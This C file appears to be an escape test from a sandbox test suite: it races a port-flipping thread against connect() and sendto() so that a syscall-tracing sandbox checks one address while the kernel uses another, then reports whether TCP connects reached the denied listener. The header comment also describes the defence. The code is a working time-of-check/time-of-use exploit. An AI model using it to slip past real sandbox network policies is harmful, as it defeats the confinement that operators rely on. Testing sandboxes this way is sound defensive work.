/* tracejail-escape
 * id: race-sockaddr
 * class: pointer-argument races
 * title: rewrite connect()'s and sendto()'s address between the tracer's check and the kernel's read
 * covered: standard
 * needs: listener decoy
 *
 * Technique: the same time-of-check/time-of-use race as race-pointer, on a struct sockaddr_in: a
 * thread keeps flipping the port between TJ_DECOY_ADDR (allowed) and TJ_LISTEN (denied) while the
 * main thread makes 2000 TCP connects and then 2000 UDP sendto() calls with that struct. For TCP,
 * getpeername() on each connected socket tells which port the kernel really used. For UDP the
 * return value cannot tell, so the counts are printed and the listener on TJ_LISTEN is the oracle.
 * Defence: the tracer pins the sockaddr: it copies the address it checked into memory the tracee
 * cannot write and points the call at the copy. Without pinning, only a kernel-side rule (Landlock
 * network rules, or a network namespace at strict) closes this.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "escape.h"

enum { kAttempts = 2000 };

static struct sockaddr_in shared_addr;            /* what connect() and sendto() read */
static struct sockaddr_in decoy_addr, listen_addr;
static size_t lo, span;                           /* the bytes that differ (the port) */
static atomic_int stop;

static void parse(const char *name, struct sockaddr_in *out) {
  const char *v = getenv(name);
  char host[64];
  const char *colon = v ? strrchr(v, ':') : NULL;
  memset(out, 0, sizeof *out);
  out->sin_family = AF_INET;
  if (colon == NULL || colon - v >= (long)sizeof host) goto bad;
  memcpy(host, v, (size_t)(colon - v));
  host[colon - v] = '\0';
  if (inet_pton(AF_INET, host, &out->sin_addr) != 1) goto bad;
  out->sin_port = htons((unsigned short)atoi(colon + 1));
  return;
bad:
  fprintf(stderr, "race_sockaddr: %s must be IPV4:PORT, is \"%s\"\n", name, v ? v : "(unset)");
  exit(2);
}

/* Alternate the differing bytes (the port) as fast as possible; the empty asm statements keep the
   compiler from dropping the first store as overwritten. */
static void *flipper(void *arg) {
  (void)arg;
  char *dst = (char *)&shared_addr;
  while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
    memcpy(dst + lo, (char *)&listen_addr + lo, span);
    __asm__ volatile("" ::: "memory");
    memcpy(dst + lo, (char *)&decoy_addr + lo, span);
    __asm__ volatile("" ::: "memory");
  }
  return NULL;
}

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* One non-blocking TCP connect with addr; returns 0 when connected, else an errno value. The wait
   for completion is bounded, so a listener that never accepts cannot hang the sample. */
static int tcp_connect(const struct sockaddr_in *addr, int *fd_out) {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (fd < 0) return errno;
  int err = 0;
  if (connect(fd, (const struct sockaddr *)addr, sizeof *addr) != 0) {
    err = errno;
    if (err == EINPROGRESS) {
      struct pollfd p = {fd, POLLOUT, 0};
      socklen_t len = sizeof err;
      if (poll(&p, 1, 300) == 1)
        getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &len);
      else
        err = ETIMEDOUT;
    }
  }
  if (err != 0) {
    close(fd);
    return err;
  }
  *fd_out = fd;
  return 0;
}

int main(void) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  parse("TJ_LISTEN", &listen_addr);
  parse("TJ_DECOY_ADDR", &decoy_addr);
  size_t hi = sizeof listen_addr;
  const char *a = (const char *)&listen_addr, *b = (const char *)&decoy_addr;
  for (lo = 0; lo < hi && a[lo] == b[lo]; ++lo) {}
  while (hi > lo && a[hi - 1] == b[hi - 1]) --hi;
  span = hi - lo;
  if (span == 0) {
    fprintf(stderr, "race_sockaddr: TJ_LISTEN and TJ_DECOY_ADDR are the same address\n");
    return 2;
  }
  unsigned short listen_port = ntohs(listen_addr.sin_port);
  int escaped = 0;

  /* Control: connect straight to TJ_LISTEN, no race. */
  int fd = -1;
  int err = tcp_connect(&listen_addr, &fd);
  printf("control: TCP connect to TJ_LISTEN, no flipper: %s (%s)\n",
         err == 0 ? "connected" : "failed", err == 0 ? "ok" : ename(err));
  if (err == 0) {
    ++escaped;
    close(fd);
  }

  shared_addr = decoy_addr;
  pthread_t t;
  if (pthread_create(&t, NULL, flipper, NULL) != 0) {
    printf("BLOCKED: pthread_create failed (%s)\n", ename(errno));
    return 0;
  }

  /* TCP: the peer address of each connected socket says which port the kernel used. Bounded to
     about five seconds whatever the listeners do. */
  long to_listen = 0, to_decoy = 0, denied = 0, refused = 0, other = 0, done = 0;
  int first_err = 0;
  double deadline = now() + 5.0;
  for (; done < kAttempts && now() < deadline; ++done) {
    err = tcp_connect(&shared_addr, &fd);
    if (err != 0) {
      if (err == EACCES || err == EPERM) ++denied;
      else if (err == ECONNREFUSED) ++refused;  /* allowed by the policy, nothing listening */
      else ++other;
      if (first_err == 0 && err != ECONNREFUSED) first_err = err;
      continue;
    }
    struct sockaddr_in peer;
    socklen_t len = sizeof peer;
    if (getpeername(fd, (struct sockaddr *)&peer, &len) == 0 && ntohs(peer.sin_port) == listen_port)
      ++to_listen;
    else
      ++to_decoy;
    close(fd);
  }
  printf("TCP connect x %ld with a port-flipping thread: listen=%ld decoy=%ld denied=%ld "
         "refused=%ld other=%ld (%s)\n", done, to_listen, to_decoy, denied, refused, other,
         first_err ? ename(first_err) : "ok");
  if (to_listen) ++escaped;

  /* UDP: a datagram leaves either way, and sendto's result does not say to which port. */
  long sent = 0, udp_denied = 0, udp_other = 0;
  int udp_err = 0;
  int u = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  for (int i = 0; u >= 0 && i < kAttempts; ++i) {
    static const char msg[] = "tracejail race_sockaddr\n";
    if (sendto(u, msg, sizeof msg - 1, 0, (const struct sockaddr *)&shared_addr,
               sizeof shared_addr) >= 0) {
      ++sent;
    } else {
      if (errno == EACCES || errno == EPERM) ++udp_denied; else ++udp_other;
      if (udp_err == 0) udp_err = errno;
    }
  }
  if (u >= 0) close(u);
  printf("UDP sendto x %d with a port-flipping thread: sent=%ld denied=%ld other=%ld (%s); "
         "which port each went to is for the TJ_LISTEN listener to tell\n",
         kAttempts, sent, udp_denied, udp_other, udp_err ? ename(udp_err) : "ok");

  atomic_store(&stop, 1);
  pthread_join(t, NULL);

  if (escaped)
    printf("ESCAPED: %ld TCP connects reached TJ_LISTEN %s(port %u)\n", to_listen,
           escaped > (to_listen ? 1 : 0) ? "and so did the control connect " : "", listen_port);
  else
    printf("BLOCKED: TCP connect -> TJ_LISTEN reached 0 of %ld times (denied %ld %s, decoy %ld, "
           "refused %ld%s); UDP sendto -> sent %ld, denied %ld (the listener tells)\n",
           done, denied, first_err ? ename(first_err) : "", to_decoy, refused,
           refused ? ", port unknown: nothing listening" : "", sent, udp_denied);
  return 0;
}
